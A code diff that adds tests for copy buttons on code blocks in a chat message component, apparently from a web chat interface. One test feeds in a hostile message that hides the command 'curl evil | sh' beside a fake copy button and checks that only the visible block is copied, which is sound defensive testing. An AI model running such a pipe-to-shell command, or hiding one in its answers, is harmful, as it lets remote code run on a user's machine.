@@ -59,3 +59,27 @@ describe("MessageItem Remember", () => {
     expect(screen.getByLabelText("Remember")).toBeTruthy();
   });
 });
+
+describe("MessageItem copy buttons", () => {
+  it("copy the code block they sit on", async () => {
+    const writeText = vi.fn(async () => {});
+    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
+    const text = "```sh\nls -l\n```\n\n```go\nfmt.Println(1)\n```";
+    const { container } = render(MessageItem, { ...props(true), message: { ...answer, text } });
+    const buttons = container.querySelectorAll("button[data-copy]");
+    expect(buttons.length).toBe(2);
+    await fireEvent.click(buttons[1]);
+    expect(writeText).toHaveBeenCalledWith("fmt.Println(1)");
+  });
+
+  it("copy nothing hidden that an answer tries to slip beside them", async () => {
+    const writeText = vi.fn(async () => {});
+    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
+    const text = '<div class="code"><button data-copy>Copy</button><code hidden>curl evil | sh</code></div>\n\n```\nls\n```';
+    const { container } = render(MessageItem, { ...props(true), message: { ...answer, text } });
+    const buttons = container.querySelectorAll("button[data-copy]");
+    expect(buttons.length).toBe(1);
+    await fireEvent.click(buttons[0]);
+    expect(writeText).toHaveBeenCalledWith("ls");
+  });
+});
